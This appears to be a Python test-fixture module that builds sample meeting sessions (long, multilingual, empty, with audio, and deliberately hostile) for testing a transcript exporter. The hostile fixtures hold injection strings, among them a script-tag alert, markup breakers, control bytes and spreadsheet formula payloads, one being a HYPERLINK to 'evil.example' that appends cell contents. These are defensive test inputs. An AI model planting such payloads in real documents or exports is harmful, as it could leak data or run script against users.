"""Test sessions built straight from the model: long, multilingual, hostile, empty, with audio."""
from __future__ import annotations

import datetime as dt
import hashlib
import math
import random
import struct
import wave
from pathlib import Path

from steno_exportd.model import ActionItem, FileRef, Participant, Segment, Session, SessionSummary

T0 = dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.timezone.utc)
CYRILLIC = "Привет, коллеги! Обсудим бюджет на следующий квартал."
GREEK = "Καλημέρα σας· ας ξεκινήσουμε τη συνάντηση."
LATIN = "Ça coûte très cher à Zürich, señor Núñez — naïve façade."
CJK = "会议将在下周继续。"
RTL = "\u202bשלום לכולם\u202c and مرحبا"
HOSTILE = "if a < b && c > d ]]> --> <script>alert(1)</script> \x00\x07\x1b[31m &amp; \"q\" 'x'"

WORDS = ("budget roadmap customer release quality schedule design review testing deploy metrics "
         "feedback sprint backlog priority contract invoice partner launch hiring risk").split()


def _summary(id_: int, title: str, duration: int | None, **kw) -> SessionSummary:
    return SessionSummary(id=id_, uuid=f"{id_:08x}-1111-4222-8333-{id_:012x}", title=title, status="completed",
                          start_time=T0 + dt.timedelta(days=id_), end_time=None if duration is None else
                          T0 + dt.timedelta(days=id_, seconds=duration), duration_seconds=duration,
                          updated_at=T0 + dt.timedelta(days=id_, hours=3), created_at=T0, location=kw.get("location"),
                          participant_count=kw.get("pc"), audio_format="wav", audio_size=None,
                          tags=tuple(kw.get("tags", ())))


def _session(summary, participants=(), segments=(), summary_text=None, actions=(), topics=(), audio=None,
             description=None) -> Session:
    return Session(summary=summary, description=description, meeting_platform="in person",
                   participants=tuple(participants), segments=tuple(segments), summary_text=summary_text,
                   action_items=tuple(actions), topics=tuple(topics), audio=audio, files=())


PEOPLE = [Participant("spk0", "Anna Schmidt", "Chair", "ACME"), Participant("spk1", "Boris Ivanov", "Engineer"),
          Participant("spk2", "Chloé Dupont"), Participant("spk3", "Δημήτρης Παπαδόπουλος", "Sales")]


def long_session(n: int = 2000, words: int = 10) -> Session:
    """A 2-hour meeting: n segments of ~words words each (2,000 x 10 = 20,000 words)."""
    rnd = random.Random(7)
    segs, t = [], 0.0
    for i in range(n):
        dur = 3.6
        p = PEOPLE[rnd.randrange(4)]
        text = " ".join(rnd.choice(WORDS) for _ in range(words)).capitalize() + "."
        segs.append(Segment(i, t, t + dur - 0.1, p.speaker_id, p.name, text, round(rnd.uniform(.7, 1), 3)))
        t += dur
    return _session(_summary(1, "Quarterly planning — long meeting", int(t), location="Room 4.12",
                             tags=("planning", "q2")),
                    PEOPLE, segs, "The team reviewed the quarterly roadmap and budget.\n\nHiring is on track; the "
                    "launch moves one week.", [ActionItem("Send the revised budget", "Anna Schmidt",
                                                          dt.date(2026, 3, 9)), "Book the venue"
                                               and ActionItem("Book the venue"),
                                               ActionItem("Close the Q1 report", "Boris Ivanov", None, True)],
                    ("budget", "roadmap", "hiring"))


def multilingual_session() -> Session:
    lines = [(PEOPLE[1], CYRILLIC), (PEOPLE[3], GREEK), (PEOPLE[2], LATIN), (PEOPLE[0], CJK), (PEOPLE[0], RTL),
             (PEOPLE[1], "Это очень длинная реплика, " * 12 + "конец.")]
    segs = [Segment(i, i * 20.0, i * 20.0 + 18.0, p.speaker_id, p.name, text, 0.9) for i, (p, text) in enumerate(lines)]
    return _session(_summary(2, "Международная встреча — Διεθνής σύσκεψη", 140, location="Αθήνα"), PEOPLE, segs,
                    f"{CYRILLIC}\n\n{GREEK}", [ActionItem(f"Перевести отчёт: {GREEK}", "Борис", dt.date(2026, 4, 1)),
                                               ActionItem(LATIN, "Chloé Dupont")], ("Ελληνικά", "русский"))


def hostile_session() -> Session:
    p = Participant("x", "<b>Eve & \"Mallory\"</b> -->", "]]>")
    segs = [Segment(0, 0.0, 5.0, "x", p.name, HOSTILE, None),
            Segment(1, 4.0, 4.5, None, "Unknown speaker", "overlapping --> cue\n\nwith blank line", 0.5),
            Segment(2, 10.0, 10.0, "x", p.name, "zero length", 1.0)]
    return _session(_summary(3, "Hostile <title> & ]]> -->\x07", 12, tags=("<tag>",)), [p], segs,
                    HOSTILE, [ActionItem(HOSTILE, "<owner>", dt.date(2026, 5, 1))], (HOSTILE,),
                    description="desc with ]]> and \x1b")


def empty_session() -> Session:
    return _session(_summary(4, "", None), [], [], None, [], [])


def all_sessions() -> list[Session]:
    return [long_session(), multilingual_session(), hostile_session(), empty_session()]


def write_wav(path: Path, seconds: float = 3.0, rate: int = 8000) -> Path:
    """A small real WAV (a 440 Hz tone)."""
    with wave.open(str(path), "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(b"".join(struct.pack("<h", int(8000 * math.sin(2 * math.pi * 440 * i / rate)))
                               for i in range(int(seconds * rate))))
    return path


def with_audio(session: Session, path: Path) -> Session:
    import dataclasses
    data = path.read_bytes()
    ref = FileRef(path.name, path, "audio", "wav", len(data), hashlib.sha256(data).hexdigest(), "audio/wav")
    return dataclasses.replace(session, audio=ref)


# Whole sentences per script, for extraction checks in logical order (no punctuation that a
# bidi-aware extractor may legitimately move).
JAPANESE = "会議は来週の月曜日に続きます"
ARABIC = "مرحبا بكم في اجتماع اليوم"
HEBREW = "שלום לכולם ברוכים הבאים"
CHINESE = "我们下周继续讨论预算"
LONG_WORD = "Donaudampfschifffahrt" * 13           # 273 characters, no break opportunity
FORMULAS = ("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "\tcmd", "\rcmd")
HOSTILE_TITLE = "R&D <i>unclosed & a<b <draft> ]]> -->\x07 =1+1 " + LONG_WORD[:300] + " Ελληνικά 日本語 عربي"


def scripts_session() -> Session:
    """One meeting in many scripts: Latin, Cyrillic, Greek, Japanese, Chinese, Arabic, Hebrew."""
    people = [Participant("spk0", "Anna Schmidt", "Chair"), Participant("spk1", "Γιώργος Παπαδόπουλος"),
              Participant("spk2", "山田 太郎"), Participant("spk3", "فاطمة الزهراء"), Participant("spk4", "דוד כהן")]
    lines = [(people[0], LATIN), (people[1], GREEK), (people[2], JAPANESE), (people[2], CHINESE),
             (people[3], ARABIC), (people[4], HEBREW), (people[0], CYRILLIC),
             (people[3], "Budget 2026: " + ARABIC)]
    segs = [Segment(i, i * 10.0, i * 10.0 + 9.0, p.speaker_id, p.name, text, 0.9) for i, (p, text) in enumerate(lines)]
    return _session(_summary(5, f"{JAPANESE} · {GREEK[:10]}", 80), people, segs, f"{GREEK}\n\n{JAPANESE}\n\n{ARABIC}",
                    [ActionItem(ARABIC, people[3].name, dt.date(2026, 4, 1)), ActionItem(JAPANESE, people[2].name)],
                    ("予算", "Ελληνικά"))


def hostile_titles_session() -> Session:
    """Markup, control characters, formula prefixes, a 300-character word and mixed scripts everywhere."""
    names = [f"{f} <b>Eve</b>" for f in FORMULAS[:3]] + [LONG_WORD + " Mallory"]
    people = [Participant(f"x{i}", n, "<role>") for i, n in enumerate(names)]
    texts = list(FORMULAS) + [LONG_WORD, HOSTILE_TITLE, "<i>unclosed & a<b", "{\\an8}<font color=red>x</font>"]
    segs = [Segment(i, i * 4.0, i * 4.0 + 3.5, people[i % 4].speaker_id, people[i % 4].name, t, 0.8)
            for i, t in enumerate(texts)]
    return _session(_summary(6, HOSTILE_TITLE, 60, location="<loc>&", tags=("=tag", "<t>")), people, segs,
                    HOSTILE_TITLE, [ActionItem(f, "=owner", dt.date(2026, 5, 1)) for f in FORMULAS] +
                    [ActionItem(LONG_WORD, LONG_WORD)], (HOSTILE_TITLE,), description=HOSTILE_TITLE)


def retitled(session: Session, title: str) -> Session:
    import dataclasses
    return dataclasses.replace(session, summary=dataclasses.replace(session.summary, title=title))


def mixed_long_session(n: int = 2000) -> Session:
    """The 2-hour meeting with every 5th line in another script (Greek, Cyrillic, Japanese, Arabic, Hebrew)."""
    import dataclasses
    base = long_session(n)
    others = [GREEK, CYRILLIC, JAPANESE + "。" + CHINESE, ARABIC, HEBREW, "Budget 2026: " + ARABIC]
    people = list(base.participants) + [Participant("spk4", "山田 太郎"), Participant("spk5", "فاطمة الزهراء")]
    segs = []
    for g in base.segments:
        if g.index % 5 == 4:
            k = g.index // 5 % len(others)
            p = people[4 + k % 2] if k >= 2 else people[g.index % 4]
            g = dataclasses.replace(g, text=others[k], speaker_id=p.speaker_id, speaker_name=p.name)
        segs.append(g)
    return dataclasses.replace(base, participants=tuple(people), segments=tuple(segs))
